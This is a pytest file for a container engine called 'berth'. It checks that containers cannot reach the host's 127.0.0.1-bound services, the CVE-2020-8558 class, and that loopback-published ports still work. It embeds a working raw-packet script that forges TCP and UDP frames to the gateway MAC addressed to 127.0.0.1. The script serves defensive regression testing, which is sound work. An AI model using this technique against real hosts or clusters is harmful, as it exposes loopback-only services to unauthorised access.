"""The host's loopback stays the host's: a container cannot reach services bound to 127.0.0.1.

berth sets route_localnet on its bridges so that ``-p 127.0.0.1:P:80`` works through
DNAT; without a rule against it, a container (it has CAP_NET_RAW) could send a frame to
its gateway's MAC with IP destination 127.0.0.1 and reach the host's loopback-only
services (the class of Kubernetes' CVE-2020-8558). The attack runs inside the
container's network namespace with the host's Python (busybox has no packet tool):
that is the container's view, the same namespace and a raw packet socket.
The engine fixture removes the engine's containers, bridges and nftables table even
when a test fails.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import time
import urllib.request

HTTPD = "mkdir -p /www && echo {text} > /www/index.html && exec httpd -f -p 80 -h /www"


def _ok(result: subprocess.CompletedProcess) -> str:
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


# Runs in the container's network namespace: argv[1] is a JSON object with the
# container's address, its gateway's MAC, and the (address, port) of each probe.
# It prints a JSON object: whether each TCP SYN got a SYN-ACK back.
_ATTACK = r"""
import json, socket, struct, sys, time

params = json.loads(sys.argv[1])
source = socket.inet_aton(params["source"])
gateway_mac = bytes.fromhex(params["gateway_mac"].replace(":", ""))
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
sock.bind(("eth0", 0))
own_mac = sock.getsockname()[4]


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(destination, protocol, payload):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
                         source, socket.inet_aton(destination))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    sock.send(gateway_mac + own_mac + b"\x08\x00" + header + payload)


def udp(destination, port, data):
    send(destination, 17, struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data)


def tcp(destination, port, sport, seq, ack, flags):
    segment = struct.pack("!HHIIBBHHH", sport, port, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = source + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    send(destination, 6, segment)


def handshake(destination, port, sport):
    # SYN, then the ACK that completes the connection if a SYN-ACK comes back (the
    # container's kernel drops a SYN-ACK from 127.0.0.1 as martian, so it sends no RST).
    tcp(destination, port, sport, 1000, 0, 0x02)
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        sock.settimeout(max(deadline - time.monotonic(), 0.01))
        try:
            frame = sock.recv(2048)
        except TimeoutError:
            break
        ip = frame[14:]
        if len(ip) < 40 or ip[9] != 6 or ip[12:16] != socket.inet_aton(destination):
            continue
        segment = ip[(ip[0] & 0x0F) * 4:]
        their_port, our_port, seq = struct.unpack("!HHI", segment[:8])
        if (their_port, our_port) == (port, sport) and segment[13] & 0x12 == 0x12:
            tcp(destination, port, sport, 1001, seq + 1, 0x10)
            return True
    return False


for destination, port in params["udp"]:
    udp(destination, port, b"from-the-container")
print(json.dumps({f"{d}:{p}": handshake(d, p, 41000 + i)
                  for i, (d, p) in enumerate(params["tcp"])}))
"""


def _received(server: socket.socket, timeout: float) -> bytes | None:
    server.settimeout(timeout)
    try:
        return server.recv(100)
    except TimeoutError:
        return None


def _accepted(listener: socket.socket, timeout: float) -> str | None:
    listener.settimeout(timeout)
    try:
        connection, peer = listener.accept()
    except TimeoutError:
        return None
    connection.close()
    return peer[0]


def test_a_container_cannot_reach_the_hosts_loopback_through_its_gateway(berth) -> None:
    container = _ok(berth("run", "-d", "busybox", "sleep", "120"))
    details = json.loads(_ok(berth("inspect", container)))[0]
    pid, settings = details["State"]["Pid"], details["NetworkSettings"]
    address, gateway = settings["IPAddress"], settings["Gateway"]
    # The gateway's MAC, as the container itself learns it.
    _ok(berth("exec", container, "ping", "-c", "1", "-W", "2", gateway))
    arp = _ok(berth("exec", container, "cat", "/proc/net/arp")).splitlines()
    gateway_mac = next(line.split()[3] for line in arp[1:] if line.split()[0] == gateway)

    sockets = []

    def bound(kind: int, host: str) -> socket.socket:
        server = socket.socket(socket.AF_INET, kind)
        sockets.append(server)
        server.bind((host, 0))
        if kind == socket.SOCK_STREAM:
            server.listen(4)
        return server

    try:
        loopback_udp = bound(socket.SOCK_DGRAM, "127.0.0.1")
        loopback_tcp = bound(socket.SOCK_STREAM, "127.0.0.1")
        # Controls on the gateway's address, which containers may reach: they prove the
        # crafted frames are good, so that silence at 127.0.0.1 means a drop.
        gateway_udp = bound(socket.SOCK_DGRAM, gateway)
        gateway_tcp = bound(socket.SOCK_STREAM, gateway)
        params = {
            "source": address,
            "gateway_mac": gateway_mac,
            "udp": [["127.0.0.1", loopback_udp.getsockname()[1]],
                    [gateway, gateway_udp.getsockname()[1]]],
            "tcp": [["127.0.0.1", loopback_tcp.getsockname()[1]],
                    [gateway, gateway_tcp.getsockname()[1]]],
        }  # fmt: skip
        attack = subprocess.run(
            ["nsenter", f"--net=/proc/{pid}/ns/net", sys.executable, "-c", _ATTACK,
             json.dumps(params)],
            capture_output=True, text=True, timeout=30, check=False,
        )  # fmt: skip
        synacks = json.loads(_ok(attack))

        assert _received(gateway_udp, 2) == b"from-the-container"
        # (The container's kernel resets this one: it knows no such connection.)
        assert synacks[f"{gateway}:{gateway_tcp.getsockname()[1]}"] is True

        reached = {
            "udp": _received(loopback_udp, 1),
            "syn-ack": synacks[f"127.0.0.1:{loopback_tcp.getsockname()[1]}"],
            "connection from": _accepted(loopback_tcp, 1),
        }
        assert reached == {"udp": None, "syn-ack": False, "connection from": None}, (
            "a container reached the host's 127.0.0.1"
        )
    finally:
        for server in sockets:
            server.close()


def test_a_port_published_at_127_0_0_1_still_serves_the_host(berth) -> None:
    container = _ok(berth("run", "-d", "-p", "127.0.0.1::80", "busybox", "sh", "-c",
                          HTTPD.format(text="hello-from-loopback")))  # fmt: skip
    mapping = _ok(berth("port", container))
    assert mapping.startswith("80/tcp -> 127.0.0.1:")
    port = int(mapping.rsplit(":", 1)[1])
    body = ""
    for _ in range(50):
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2) as response:
                body = response.read().decode().strip()
            break
        except OSError:
            time.sleep(0.1)
    assert body == "hello-from-loopback"
